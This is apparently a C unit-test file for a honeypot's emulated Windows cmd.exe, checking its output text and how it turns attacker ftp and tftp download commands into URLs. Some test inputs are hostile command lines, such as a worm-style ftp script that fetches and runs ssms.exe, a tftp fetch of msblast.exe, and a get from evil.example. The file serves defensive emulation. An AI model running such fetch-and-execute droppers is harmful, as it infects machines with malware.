/*
 * The emulated cmd.exe (src/sc/sc_cmd.c): every command and form, with
 * the exact text cmd.exe answers, and the URLs that ftp scripts and tftp
 * amount to.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <cmocka.h>

#include "sc.h"
#include "sc_cmd.h"

#define NOT_RECOGNIZED(w) "'" w "' is not recognized as an internal or " \
	"external command,\r\noperable program or batch file.\r\n"

static char		 out[256 * 1024];
static size_t		 outlen;
static char		 urls[16][512];
static size_t		 nurls;
static struct sc_cmd	*st;

static void
collect(void *arg, const char *text, size_t len)
{
	(void)arg;
	assert_true(outlen + len < sizeof(out));
	memcpy(out + outlen, text, len);
	outlen += len;
	out[outlen] = '\0';
}

static void
fetch(void *arg, const char *url)
{
	(void)arg;
	assert_true(nurls < 16);
	snprintf(urls[nurls++], sizeof(urls[0]), "%s", url);
}

static char	cmds[16][256];
static size_t	cmdout[16], ncmds;

static void
command(void *arg, const char *text, size_t len)
{
	(void)arg;
	if (ncmds < 16) {
		snprintf(cmds[ncmds], sizeof(cmds[0]), "%s", text);
		cmdout[ncmds++] = len;
	}
}

static void
session(const struct sc_cmd_host *host, const char *attacker)
{
	struct sc_cmd_ops	ops = { .output = collect, .fetch = fetch,
				    .command = command };

	sc_cmd_free(st);
	assert_non_null(st = sc_cmd_new(host, &ops, attacker));
	nurls = 0;
	ncmds = 0;
}

/* Runs line; out holds what it printed. */
static int
run(const char *line)
{
	outlen = 0;
	out[0] = '\0';
	return sc_cmd_run(st, line, strlen(line));
}

static void
expect(const char *line, const char *text)
{
	assert_int_equal(run(line), 0);
	assert_string_equal(out, text);
}

static void
put(const char *name, const char *text)
{
	assert_int_equal(sc_cmd_file_put(st, name, text, strlen(text)), 0);
}

static const char *
prompt(void)
{
	static char	p[300];

	sc_cmd_prompt(st, p, sizeof(p));
	return p;
}

static int
teardown(void **state)
{
	(void)state;
	sc_cmd_free(st);
	st = NULL;
	return 0;
}

static void
test_echo(void **state)
{
	(void)state;
	session(NULL, NULL);
	expect("echo hello world", "hello world\r\n");
	expect("echo", "ECHO is on.\r\n");
	expect("echo.", "\r\n");
	expect("echo.text", "text\r\n");
	expect("echo off", "");
	expect("@echo  two blanks", " two blanks\r\n");
	expect("ECHO \"a&b\"", "\"a&b\"\r\n");
	expect("echo a^&b ^> c^|d", "a&b > c|d\r\n");
}

static void
test_redirect_type(void **state)
{
	(void)state;
	session(NULL, NULL);
	/* The blank before > is part of the text, as in cmd.exe. */
	expect("echo a > x", "");
	expect("type x", "a \r\n");
	expect("echo b>>x", "");
	expect("type x", "a \r\nb\r\n");
	expect("echo c>x", "");
	expect("type X", "c\r\n");
	expect("type C:\\WINDOWS\\system32\\x", "c\r\n");
	expect("type nosuch", "The system cannot find the file specified.\r\n");
	expect("type ..", "Access is denied.\r\n");
	/* A digit after a blank is a handle; inside a word it is text. */
	expect("echo 21>y", "");
	expect("type y", "21\r\n");
	expect("echo a 2>y", "a \r\n");
	expect("type y", "");
	expect("echo hidden 1>nul", "");
	expect(">z echo first", "");
	expect("type z", "first\r\n");
	/* Errors go to stderr: 2>nul hides them, 2>&1 joins stdout. */
	expect("foo 2>nul", "");
	expect("foo > e 2>&1", "");
	expect("type e", NOT_RECOGNIZED("foo"));
	expect("echo x > \"q q\"", "");
	expect("type \"q q\"", "x \r\n");
	expect("echo x >", "The syntax of the command is incorrect.\r\n");
	expect("echo x > D:\\y", "The system cannot find the path specified.\r\n");
	expect("echo x > C:\\nosuchdir\\y",
	    "The system cannot find the path specified.\r\n");
}

static void
test_unknown(void **state)
{
	(void)state;
	session(NULL, NULL);
	expect("foo", NOT_RECOGNIZED("foo"));
	expect("  foo bar baz", NOT_RECOGNIZED("foo"));
	expect("msblast.exe", NOT_RECOGNIZED("msblast.exe"));
	expect("\"foo bar\" x", NOT_RECOGNIZED("\"foo bar\""));
	expect("D:", "The system cannot find the drive specified.\r\n");
	expect("c:", "");
	/* The quiet programs of system32. */
	expect("net stop sharedaccess", "");
	expect("hostname", "ACCOUNTING-PC3\r\n");
	expect("ver", "\r\nMicrosoft Windows XP [Version 5.1.2600]\r\n");
	expect("rem anything", "");
	expect("pause", "Press any key to continue . . . ");
}

static void
test_operators(void **state)
{
	(void)state;
	session(NULL, NULL);
	expect("echo a & echo b", "a \r\nb\r\n");
	expect("echo a&echo b", "a\r\nb\r\n");
	expect("foo && echo yes", NOT_RECOGNIZED("foo"));
	expect("foo || echo yes", NOT_RECOGNIZED("foo") "yes\r\n");
	expect("echo a&& echo b", "a\r\nb\r\n");
	expect("echo a|| echo b", "a\r\n");
	expect("type nosuch || echo no && echo x",
	    "The system cannot find the file specified.\r\nno \r\nx\r\n");
	/* The left of a pipe writes into it, not to the peer. */
	expect("echo a | foo", NOT_RECOGNIZED("foo"));
	expect("echo \"a & b\" & echo c", "\"a & b\" \r\nc\r\n");
	expect("&&", "");
}

static void
test_cd_dir_del(void **state)
{
	static const char sys32[] =
	    " Volume in drive C has no label.\r\n"
	    " Volume Serial Number is 6649-12B7\r\n"
	    "\r\n"
	    " Directory of C:\\WINDOWS\\system32\r\n"
	    "\r\n"
	    "08/04/2004  05:00 AM    <DIR>          .\r\n"
	    "08/04/2004  05:00 AM    <DIR>          ..\r\n"
	    "08/04/2004  05:00 AM           388,608 cmd.exe\r\n"
	    "08/04/2004  05:00 AM    <DIR>          config\r\n"
	    "08/04/2004  05:00 AM    <DIR>          drivers\r\n"
	    "08/04/2004  05:00 AM            42,496 ftp.exe\r\n"
	    "08/04/2004  05:00 AM             8,704 hostname.exe\r\n"
	    "08/04/2004  05:00 AM            42,496 net.exe\r\n"
	    "08/04/2004  05:00 AM            16,896 tftp.exe\r\n"
	    "               5 File(s)        499,200 bytes\r\n"
	    "               4 Dir(s)  12,386,504,704 bytes free\r\n";
	char		expected[2048], when[64];
	struct tm	tm;
	time_t		now;
	int		h, tries;

	(void)state;
	session(NULL, NULL);
	assert_string_equal(prompt(), "C:\\WINDOWS\\system32>");
	expect("cd", "C:\\WINDOWS\\system32\r\n");
	expect("dir", sys32);
	expect("dir C:\\nosuch\\x", " Volume in drive C has no label.\r\n"
	    " Volume Serial Number is 6649-12B7\r\n\r\n"
	    " Directory of C:\\nosuch\r\n\r\nFile Not Found\r\n");
	expect("cd ..", "");
	assert_string_equal(prompt(), "C:\\WINDOWS>");
	expect("cd \\", "");
	assert_string_equal(prompt(), "C:\\>");
	expect("cd windows\\SYSTEM32\\..", "");
	assert_string_equal(prompt(), "C:\\WINDOWS>");
	expect("cd.. ", "");
	assert_string_equal(prompt(), "C:\\>");
	expect("cd /d C:\\Program Files", "");
	assert_string_equal(prompt(), "C:\\Program Files>");
	expect("cd\\", "");
	expect("cd nosuch", "The system cannot find the path specified.\r\n");
	expect("cd D:\\", "The system cannot find the path specified.\r\n");
	assert_string_equal(prompt(), "C:\\>");
	expect("md work", "");
	expect("md work", "A subdirectory or file work already exists.\r\n");
	expect("cd work", "");
	assert_string_equal(prompt(), "C:\\work>");

	/* A file of the session: dated now. */
	for (tries = 0; tries < 3; tries++) {
		now = time(NULL);
		expect("echo abc> f.txt", "");
		run("dir");
		gmtime_r(&now, &tm);
		h = tm.tm_hour % 12 == 0 ? 12 : tm.tm_hour % 12;
		snprintf(when, sizeof(when), "%02d/%02d/%04d  %02d:%02d %s",
		    tm.tm_mon + 1, tm.tm_mday, tm.tm_year + 1900, h,
		    tm.tm_min, tm.tm_hour < 12 ? "AM" : "PM");
		snprintf(expected, sizeof(expected),
		    " Volume in drive C has no label.\r\n"
		    " Volume Serial Number is 6649-12B7\r\n\r\n"
		    " Directory of C:\\work\r\n\r\n"
		    "08/04/2004  05:00 AM    <DIR>          .\r\n"
		    "08/04/2004  05:00 AM    <DIR>          ..\r\n"
		    "%s                 5 f.txt\r\n"
		    "               1 File(s)              5 bytes\r\n"
		    "               2 Dir(s)  12,386,504,679 bytes free\r\n",
		    when);
		if (strcmp(out, expected) == 0)
			break;
	}
	assert_string_equal(out, expected);
	expect("dir nosuch", " Volume in drive C has no label.\r\n"
	    " Volume Serial Number is 6649-12B7\r\n\r\n"
	    " Directory of C:\\work\r\n\r\nFile Not Found\r\n");

	expect("del f.txt", "");
	expect("type f.txt", "The system cannot find the file specified.\r\n");
	expect("del /F /Q f.txt", "Could Not Find C:\\work\\f.txt\r\n");
	expect("del C:\\WINDOWS\\system32\\cmd.exe", "Access is denied.\r\n");
	expect("del", "The syntax of the command is incorrect.\r\n");
	expect("erase \\work", "Access is denied.\r\n");
}

static void
test_cmd_start_exit(void **state)
{
	(void)state;
	session(NULL, NULL);
	expect("cmd /c echo hi", "hi\r\n");
	expect("cmd.exe /C \"echo a & echo b\"", "a \r\nb\r\n");
	expect("CMD/c echo x", "x\r\n");
	/* exit in cmd /c ends that cmd only. */
	expect("cmd /c exit & echo after", "after\r\n");
	expect("cmd /c \"exit\" && echo after", "after\r\n");
	/* cmd alone: a new level, with its banner. */
	expect("cmd", "Microsoft Windows XP [Version 5.1.2600]\r\n"
	    "(C) Copyright 1985-2001 Microsoft Corp.\r\n");
	expect("exit", "");
	expect("cmd /k echo k", "k\r\n");
	expect("exit", "");
	/* start: in a window of its own, nothing comes back. */
	expect("start echo hidden", "");
	expect("start \"title\" /min /d C:\\ foo", "");
	expect("start", "");
	expect("start cmd /c exit", "");
	/* The outer exit ends the session; the rest of the line is not run. */
	assert_int_equal(run("exit & echo no"), 1);
	assert_string_equal(out, "");
	assert_int_equal(run("echo more"), 1);
	assert_string_equal(out, "");
}

static void
test_ftp_honeynet(void **state)
{
	(void)state;
	session(NULL, "98.114.205.102");
	expect("echo open 0.0.0.0 8884 > o&echo user 1 1 >> o &echo get "
	    "ssms.exe >> o &echo quit >> o &ftp -n -s:o &del /F /Q o "
	    "&ssms.exe", "");
	assert_int_equal(nurls, 1);
	assert_string_equal(urls[0], "ftp://1:1@98.114.205.102:8884/ssms.exe");
	/* Each command of the line as typed, once it ran. */
	assert_int_equal(ncmds, 7);
	assert_string_equal(cmds[0], "echo open 0.0.0.0 8884 > o");
	assert_string_equal(cmds[1], "echo user 1 1 >> o");
	assert_string_equal(cmds[4], "ftp -n -s:o");
	assert_string_equal(cmds[5], "del /F /Q o");
	assert_string_equal(cmds[6], "ssms.exe");
	ncmds = 0;
	expect("foo && echo skipped || e^cho x", NOT_RECOGNIZED("foo") "x\r\n");
	assert_int_equal(ncmds, 2);
	assert_string_equal(cmds[0], "foo");
	assert_int_equal(cmdout[0], strlen(NOT_RECOGNIZED("foo")));
	assert_string_equal(cmds[1], "e^cho x");
	assert_int_equal(cmdout[1], 3);
	/* The script is gone, the file it fetched is there. */
	expect("type o", "The system cannot find the file specified.\r\n");
	expect("type ssms.exe", "");
}

static void
test_ftp_forms(void **state)
{
	(void)state;
	session(NULL, "198.51.100.7");
	/* Without -n: the lines after open answer User and Password. */
	put("s1", "open 203.0.113.9\r\nbob\r\nsecret\r\n"
	    "binary\r\nget x.exe\r\nbye\r\nget not.exe\r\n");
	expect("ftp -s:s1", "");
	assert_int_equal(nurls, 1);
	assert_string_equal(urls[0], "ftp://bob:secret@203.0.113.9:21/x.exe");

	/* -n: user NAME, then the password on its own line. */
	nurls = 0;
	put("s2", "open 10.1.2.3 2121\nuser bob\nsecret\n"
	    "cd pub\ncd bin\nrecv a.exe\nmget b.exe c.exe\nget /root.exe\n");
	expect("ftp -v -i -n -s:s2", "");
	assert_int_equal(nurls, 4);
	assert_string_equal(urls[0],
	    "ftp://bob:secret@198.51.100.7:2121/pub/bin/a.exe");
	assert_string_equal(urls[1],
	    "ftp://bob:secret@198.51.100.7:2121/pub/bin/b.exe");
	assert_string_equal(urls[2],
	    "ftp://bob:secret@198.51.100.7:2121/pub/bin/c.exe");
	assert_string_equal(urls[3],
	    "ftp://bob:secret@198.51.100.7:2121/root.exe");

	/* The host on the command line; quote USER and PASS; encoding. */
	nurls = 0;
	put("s3", "quote USER a@b\nquote PASS c:d\n"
	    "get my file.exe\nquit\n");
	expect("ftp -n -s:s3 203.0.113.20", "");
	assert_int_equal(nurls, 1);
	assert_string_equal(urls[0],
	    "ftp://a%40b:c%3Ad@203.0.113.20:21/my");

	/* Addresses: private, loopback, link-local are the attacker's. */
	nurls = 0;
	expect("echo open 169.254.1.1 21>a&echo user u p>>a&echo get f1>>a&"
	    "echo open 172.15.0.1 21>>a&echo user u p>>a&echo get f2>>a&"
	    "echo open 127.0.0.1 21>>a&echo user u p>>a&echo get f3>>a&"
	    "echo open 192.168.9.9 21>>a&echo user u p>>a&echo get f4>>a&"
	    "echo open evil.example 21>>a&echo user u p>>a&echo get f5>>a&"
	    "ftp -n -s:a", "");
	assert_int_equal(nurls, 5);
	assert_string_equal(urls[0], "ftp://u:p@198.51.100.7:21/f1");
	assert_string_equal(urls[1], "ftp://u:p@172.15.0.1:21/f2");
	assert_string_equal(urls[2], "ftp://u:p@198.51.100.7:21/f3");
	assert_string_equal(urls[3], "ftp://u:p@198.51.100.7:21/f4");
	assert_string_equal(urls[4], "ftp://u:p@evil.example:21/f5");

	/* Garbage: no host, a bad port, a host with odd characters. */
	nurls = 0;
	put("s4", "get a\nopen\nget b\nopen h 99999\nget c\n"
	    "open h/x 21\nget d\nopen h 21\nclose\nget e\n");
	expect("ftp -n -s:s4", "");
	assert_int_equal(nurls, 0);
	expect("ftp -s:nosuch", "Error opening script file nosuch.\r\n");
	expect("ftp 203.0.113.1", "");
	assert_int_equal(nurls, 0);
}

static void
test_tftp(void **state)
{
	(void)state;
	session(NULL, "198.51.100.7");
	expect("tftp -i 192.168.0.1 GET msblast.exe", "");
	assert_int_equal(nurls, 1);
	assert_string_equal(urls[0], "tftp://198.51.100.7/msblast.exe");
	/* The file is there now: running it says nothing. */
	expect("msblast.exe", "");
	expect("start msblast", "");
	expect("tftp.exe 203.0.113.5 get a.exe c:\\b.exe", "");
	assert_int_equal(nurls, 2);
	assert_string_equal(urls[1], "tftp://203.0.113.5/a.exe");
	expect("type c:\\b.exe", "");
	expect("tftp -i 203.0.113.5 put a.exe", "");
	expect("tftp -i 203.0.113.5", "");
	expect("tftp", "");
	assert_int_equal(nurls, 2);
	expect("start /b tftp -i 203.0.113.6 get c.exe", "");
	expect("cmd /c \"tftp -i 203.0.113.7 get d.exe\"", "");
	assert_int_equal(nurls, 4);
	assert_string_equal(urls[2], "tftp://203.0.113.6/c.exe");
	assert_string_equal(urls[3], "tftp://203.0.113.7/d.exe");
}

static void
test_batch(void **state)
{
	(void)state;
	session(NULL, "198.51.100.7");
	expect("echo tftp -i 10.0.0.1 get b.exe > x.bat", "");
	expect("echo echo done >> x.bat", "");
	expect("x", "done \r\n");
	assert_int_equal(nurls, 1);
	assert_string_equal(urls[0], "tftp://198.51.100.7/b.exe");
	expect("x.bat", "done \r\n");
}

/* A batch file run without call takes over; call comes back. */
static void
test_batch_call(void **state)
{
	static char	line[SC_CMD_LINE + 1];
	int		cut, i;

	(void)state;
	session(NULL, NULL);
	put("c.bat", "echo c\r\n");
	put("b.bat", "echo one&c&echo two\r\necho three\r\n");
	expect("b", "one\r\nc\r\n");
	put("b.bat", "echo one&call c&echo two\r\necho three\r\n");
	expect("b & echo back", "one\r\nc\r\ntwo\r\nthree\r\nback\r\n");
	/* b, its three commands, call c and c's echo, echo back. */
	assert_int_equal(sc_cmd_steps(st, &cut), 7);
	assert_int_equal(cut, 0);
	expect("call c", "c\r\n");
	expect("@call call  c", "c\r\n");
	/* However many calls: no recursion per call. */
	for (i = 0; i < 1600; i++)
		memcpy(line + 5 * i, "call ", 5);
	memcpy(line + 5 * i, "c", 2);
	expect(line, "c\r\n");
}

/*
 * The batch file that runs itself: `a&a&...&a` once cost ~N^3
 * commands (each a one level deeper, fanning out).  A line now runs at
 * most SC_CMD_STEPS commands, the file handing over or called.
 */
static void
test_batch_budget(void **state)
{
	static char	line[SC_CMD_LINE + 1];
	size_t		n, i;
	int		cut;

	(void)state;
	session(NULL, NULL);
	n = (size_t)snprintf(line, sizeof(line), "echo a");
	for (i = 1; i < 2000; i++)
		n += (size_t)snprintf(line + n, sizeof(line) - n, "^&a");
	snprintf(line + n, sizeof(line) - n, "> a.bat");
	expect(line, "");
	assert_int_equal(sc_cmd_steps(st, &cut), 1);
	assert_int_equal(cut, 0);
	ncmds = 0;
	expect("a.bat & echo after", "");
	assert_int_equal(sc_cmd_steps(st, &cut), SC_CMD_STEPS);
	assert_int_equal(cut, 1);
	/* a.bat, cut; echo after did not run. */
	assert_int_equal(ncmds, 1);
	assert_string_equal(cmds[0], "a.bat");
	/* call: each a comes back, the fan-out is cut the same way. */
	n = (size_t)snprintf(line, sizeof(line), "echo call a");
	for (i = 1; i < 1000; i++)
		n += (size_t)snprintf(line + n, sizeof(line) - n, "^&call a");
	snprintf(line + n, sizeof(line) - n, "> a.bat");
	expect(line, "");
	expect("a", "");
	assert_int_equal(sc_cmd_steps(st, &cut), SC_CMD_STEPS);
	assert_int_equal(cut, 1);
	/* An ftp script's lines count too: the get after 1,200 is cut. */
	line[0] = '\0';
	for (i = 0; i < 1200; i++)
		strcat(line, "cd x\r\n");
	strcat(line, "open 203.0.113.9\r\nget a.exe\r\n");
	put("o", line);
	expect("ftp -n -s:o", "");
	assert_int_equal(sc_cmd_steps(st, &cut), SC_CMD_STEPS);
	assert_int_equal(cut, 1);
	assert_int_equal(nurls, 0);
	/* The next line has a budget of its own. */
	expect("echo ok", "ok\r\n");
	assert_int_equal(sc_cmd_steps(st, &cut), 1);
	assert_int_equal(cut, 0);
}

/* A URL that does not fit is not offered cut short: another file. */
static void
test_long_url(void **state)
{
	char	script[1024], line[512], a[300], want[600];

	(void)state;
	session(NULL, NULL);
	memset(a, 'a', 245);
	a[245] = '\0';
	/* ftp://203.0.113.9:21/ and 490 bytes: 511, the most; then 512. */
	snprintf(script, sizeof(script), "open 203.0.113.9\r\ncd %s\r\n"
	    "get %.244s\r\nget %s\r\nbye\r\n", a, a, a);
	put("o", script);
	expect("ftp -n -s:o", "");
	assert_int_equal(nurls, 1);
	snprintf(want, sizeof(want), "ftp://203.0.113.9:21/%s/%.244s", a, a);
	assert_int_equal(strlen(urls[0]), 511);
	assert_string_equal(urls[0], want);
	/* A character encoded as three: 200 of them do not fit. */
	memset(a, '%', 200);
	a[200] = '\0';
	snprintf(line, sizeof(line), "tftp -i 203.0.113.9 get %s", a);
	expect(line, "");
	/* ftp: a long user and password, percent-encoded. */
	snprintf(script, sizeof(script), "open 203.0.113.9\r\nuser %.100s "
	    "%.100s\r\nget b.exe\r\n", a, a);
	put("p", script);
	expect("ftp -n -s:p", "");
	assert_int_equal(nurls, 1);
	/* Shorter, they fit. */
	snprintf(script, sizeof(script), "open 203.0.113.9\r\nuser %.50s "
	    "%.50s\r\nget b.exe\r\n", a, a);
	put("p", script);
	expect("ftp -n -s:p", "");
	assert_int_equal(nurls, 2);
	assert_int_equal(strlen(urls[1]), 6 + 150 + 1 + 150 + 1 + 15 + 5);
}

static void
test_caps(void **state)
{
	char	line[SC_CMD_LINE + 64];
	char	big[7001];
	int	i;

	(void)state;
	session(NULL, NULL);
	for (i = 0; i < SC_CMD_FILES; i++) {
		snprintf(line, sizeof(line), "echo %d > f%d", i, i);
		expect(line, "");
	}
	expect("echo one more > g", "There is not enough space on the disk.\r\n");
	expect("type f31", "31 \r\n");
	expect("del f31", "");
	/* Contents: 32 KiB in all. */
	memset(big, 'a', 7000);
	big[7000] = '\0';
	snprintf(line, sizeof(line), "echo %s > g", big);
	expect(line, "");
	for (i = 0; i < 3; i++) {
		snprintf(line, sizeof(line), "echo %s >> g", big);
		expect(line, "");
	}
	snprintf(line, sizeof(line), "echo %s >> g", big);
	expect(line, "There is not enough space on the disk.\r\n");
	/* One line's output is capped. */
	for (i = 0, line[0] = '\0'; i < 8; i++)
		strcat(line, "type g&");
	assert_int_equal(run(line), 0);
	assert_int_equal(outlen, SC_CMD_OUT_MAX);
	/* A line longer than cmd.exe takes. */
	memset(line, 'b', SC_CMD_LINE + 1);
	outlen = 0;
	assert_int_equal(sc_cmd_run(st, line, SC_CMD_LINE + 1), 0);
	assert_string_equal(out, "The input line is too long.\r\n");
}

static void
test_host(void **state)
{
	struct sc_cmd_host	 host = { "FILESRV01", "5.2.3790", "C:\\WINNT" };
	char			 b[SC_CMD_BANNER];

	(void)state;
	session(&host, NULL);
	assert_string_equal(prompt(), "C:\\WINNT\\system32>");
	expect("hostname", "FILESRV01\r\n");
	expect("ver", "\r\nMicrosoft Windows [Version 5.2.3790]\r\n");
	sc_cmd_banner("5.2.3790", b, sizeof(b));
	assert_string_equal(b, "Microsoft Windows [Version 5.2.3790]\r\n"
	    "(C) Copyright 1985-2003 Microsoft Corp.\r\n\r\n");
	sc_cmd_banner("5.1.2600", b, sizeof(b));
	assert_string_equal(b, "Microsoft Windows XP [Version 5.1.2600]\r\n"
	    "(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\n");
	sc_cmd_banner("5.0.2195", b, sizeof(b));
	assert_string_equal(b, "Microsoft Windows 2000 [Version 5.00.2195]"
	    "\r\n(C) Copyright 1985-2000 Microsoft Corp.\r\n\r\n");
	assert_int_equal(sc_cmd_banner("5.1.2600", b, 10), 0);
	assert_true(sc_cmd_version_known("5.1.2600"));
	assert_true(sc_cmd_version_known("6.1.7601"));
	assert_false(sc_cmd_version_known("6.1.7600"));
	expect("cd ..", "");
	assert_string_equal(prompt(), "C:\\WINNT>");
}

static void
host_rule(void *arg, const char *host, uint16_t port, char *to, size_t len)
{
	(void)arg;
	/* The port each host is reached on comes with it. */
	snprintf(to, len, "%s", strcmp(host, "0.0.0.0") == 0 && port == 2121 ?
	    host : port == 69 ? "192.0.2.1" : "wrong.port");
}

/* A caller's own rule for addresses (the shell's: egress_host()). */
static void
test_host_callback(void **state)
{
	struct sc_cmd_ops	ops = { .fetch = fetch, .host = host_rule };

	(void)state;
	sc_cmd_free(st);
	assert_non_null(st = sc_cmd_new(NULL, &ops, "198.51.100.7"));
	nurls = 0;
	expect("echo open 0.0.0.0 2121>o&echo get a>>o&ftp -n -s:o&"
	    "tftp -i 203.0.113.1 get b", "");
	assert_int_equal(nurls, 2);
	assert_string_equal(urls[0], "ftp://0.0.0.0:2121/a");
	assert_string_equal(urls[1], "tftp://192.0.2.1/b");
}

/* The analyser's use: command lines found in shellcode. */
static void
test_downloads(void **state)
{
	struct sc_result	*res;

	(void)state;
	assert_non_null(res = calloc(1, sizeof(*res)));
	sc_cmd_downloads("cmd /c echo open 0.0.0.0 21>o\necho get a.exe>>o\r\n"
	    "ftp -n -s:o 203.0.113.2&tftp -i 10.0.0.2 get b.exe&"
	    "tftp -i 10.0.0.2 get b.exe", "203.0.113.1", res);
	assert_int_equal(res->nactions, 2);
	assert_int_equal(res->actions[0].kind, SC_DOWNLOAD);
	/* open in the script wins over the command line's host. */
	assert_string_equal(res->actions[0].url, "ftp://203.0.113.1:21/a.exe");
	assert_string_equal(res->actions[1].url, "tftp://203.0.113.1/b.exe");
	free(res);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_teardown(test_echo, teardown),
		cmocka_unit_test_teardown(test_redirect_type, teardown),
		cmocka_unit_test_teardown(test_unknown, teardown),
		cmocka_unit_test_teardown(test_operators, teardown),
		cmocka_unit_test_teardown(test_cd_dir_del, teardown),
		cmocka_unit_test_teardown(test_cmd_start_exit, teardown),
		cmocka_unit_test_teardown(test_ftp_honeynet, teardown),
		cmocka_unit_test_teardown(test_ftp_forms, teardown),
		cmocka_unit_test_teardown(test_tftp, teardown),
		cmocka_unit_test_teardown(test_batch, teardown),
		cmocka_unit_test_teardown(test_batch_call, teardown),
		cmocka_unit_test_teardown(test_batch_budget, teardown),
		cmocka_unit_test_teardown(test_long_url, teardown),
		cmocka_unit_test_teardown(test_caps, teardown),
		cmocka_unit_test_teardown(test_host, teardown),
		cmocka_unit_test_teardown(test_host_callback, teardown),
		cmocka_unit_test(test_downloads),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
